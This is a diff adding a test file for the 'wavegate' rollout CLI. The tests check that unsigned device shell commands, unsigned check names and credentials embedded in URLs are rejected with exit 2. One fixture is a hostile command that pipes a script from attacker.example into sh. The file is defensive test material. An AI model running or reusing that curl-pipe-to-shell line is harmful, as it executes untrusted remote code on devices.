@@ -1,0 +1,82 @@
+import { cpSync, rmSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { stringify } from 'yaml';
+import { PROJECT_ROOT } from '../../workers/toolchain';
+import { runCli } from '../support/cli';
+import { scratchDir } from '../support/harness';
+
+/**
+ * `wavegate plan` and `wavegate start` (real processes) refuse a spec that would run anything unsigned
+ * on a device, or that selects a check the target revision does not sign, with exit 2 naming the
+ * field — before anything contacts Temporal (start is pointed at an address nothing listens on).
+ */
+const scratch = scratchDir('signed-health');
+afterAll(() => scratch.cleanup());
+const INVENTORY = join(PROJECT_ROOT, 'examples/plan/fleet-20.yaml');
+const NOWHERE = '127.0.0.1:1';
+
+function spec(name: string, healthGate: string[]): string {
+  const path = join(scratch.dir, `${name}.yaml`);
+  writeFileSync(path, stringify({ rollout: { profile: 'demo', fromRevision: 1, toRevision: 2, phases: [{ canary: '1 device', healthGate }, { bulk: 'remainder' }] } }));
+  return path;
+}
+
+const plan = (file: string, profiles = join(PROJECT_ROOT, 'profiles')) => runCli(['plan', '-f', file, '--inventory', INVENTORY, '--profiles', profiles]);
+const start = (file: string, profiles = join(PROJECT_ROOT, 'profiles')) =>
+  runCli(['start', '-f', file, '--inventory', INVENTORY, '--profiles', profiles, '--address', NOWHERE], { env: { TEMPORAL_ADDRESS: '', TEMPORAL_PROFILE: '' } });
+
+describe('plan and start refuse unsigned device commands', () => {
+  it('a spec naming a shell command for the devices exits 2 at plan and at start, naming the field and what to write instead', async () => {
+    const file = spec('unsigned', ['devices-online', 'command: curl -fsS https://attacker.example/x | sh']);
+    const runs = await Promise.all([plan(file), start(file)]);
+    for (const run of runs) {
+      expect(run.code, run.stderr).toBe(2);
+      expect(run.stderr).toContain('INVALID_INPUT');
+      expect(run.stderr).toContain('rollout.phases[0].healthGate[1]');
+      expect(run.stderr).toContain('runs an unsigned shell command on every device');
+      expect(run.stderr).toContain('"check: <name>"');
+      expect(run.stderr).not.toContain('cannot reach Temporal');
+    }
+  });
+
+  it('a check the target revision does not sign exits 2 at plan and at start, listing the signed names', async () => {
+    const file = spec('not-signed', ['all-runtimes-healthy', 'check: rm-rf']);
+    const runs = await Promise.all([plan(file), start(file)]);
+    for (const run of runs) {
+      expect(run.code, run.stderr).toBe(2);
+      expect(run.stderr).toContain('rollout.phases[0].healthGate[1]: demo r2 has no signed health check named "rm-rf"; allowed: "check: motd", "check: motd-present"');
+    }
+  });
+
+  it('device-side checks of an unsigned profile exit 2: there is no signed content to take their commands from', async () => {
+    const profiles = join(scratch.dir, 'profiles');
+    cpSync(join(PROJECT_ROOT, 'profiles', 'demo'), join(profiles, 'demo'), { recursive: true });
+    rmSync(join(profiles, 'demo', 'trust.yaml'));
+    rmSync(join(profiles, 'demo', 'envelopes'), { recursive: true });
+    const file = spec('unsigned-profile', ['check: motd-present']);
+    const runs = await Promise.all([plan(file, profiles), start(file, profiles)]);
+    for (const run of runs) {
+      expect(run.code, run.stderr).toBe(2);
+      expect(run.stderr).toContain('rollout.phases[0].healthGate[0]: runs commands on devices, which must come from signed content, but profile "demo" has no pins');
+    }
+    // the worker's own checks stay available to an unsigned profile
+    expect((await plan(spec('unsigned-online', ['devices-online']), profiles)).code).toBe(0);
+  });
+
+  it('credentials written into a worker-side check exit 2 without echoing the secret', async () => {
+    const file = spec('credentials', ['http: https://ops:hunter2@status.example.com/ok', 'prometheus(https://prom.example.com/?api_key=hunter3): up < 1']);
+    const run = await plan(file);
+    expect(run.code).toBe(2);
+    expect(run.stderr).toContain('rollout.phases[0].healthGate[0]');
+    expect(run.stderr).toContain('rollout.phases[0].healthGate[1]');
+    expect(run.stderr).toContain('tokenEnv');
+    expect(run.stderr).not.toMatch(/hunter[23]/);
+  });
+
+  it('selecting the signed checks plans with exit 0', async () => {
+    const run = await plan(spec('signed', ['all-runtimes-healthy', 'check: motd-present', 'error-rate < 0.01', 'devices-online']));
+    expect(run.code, run.stderr).toBe(0);
+    expect(run.stdout).toContain('health: all-runtimes-healthy; check: motd-present; error-rate < 0.01; devices-online');
+  });
+});
